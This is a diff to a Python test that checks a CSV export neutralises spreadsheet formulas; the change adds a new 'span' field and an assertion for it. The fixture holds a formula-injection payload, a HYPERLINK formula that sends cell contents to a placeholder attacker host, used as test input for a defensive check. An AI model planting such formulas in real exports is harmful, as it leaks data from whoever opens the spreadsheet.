@@ -308,7 +308,8 @@ def test_script_text_stays_out_of_html_headlines(tmp_path: Path) -> None:
 def test_csv_export_neutralises_formulas_and_writes_a_bom() -> None:
     row = Feedback(chat_id=-100, message_id=5, user_id=7, vote=-1,
                    question='=HYPERLINK("http://evil.example/?"&A1,"点我")',
-                   answer="+1 冠县", citations=(CitedArticle(1, "abc", "@标题"),))
+                   answer="+1 冠县", citations=(CitedArticle(1, "abc", "@标题"),),
+                   span="-0.51个百分点")
     out = io.StringIO()
     write_csv([row], out)
     text = out.getvalue()
@@ -317,6 +318,7 @@ def test_csv_export_neutralises_formulas_and_writes_a_bom() -> None:
     data = dict(zip(header, cells, strict=True))
     assert data["question"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"
     assert data["answer"] == "'+1 冠县"
+    assert data["span"] == "'-0.51个百分点"
     assert data["citations"] == "[1] @标题 (abc)"  # starts with "[": harmless as it is
     assert data["vote"] == "-1" and data["chat_id"] == "-100"  # numbers stay numbers
 
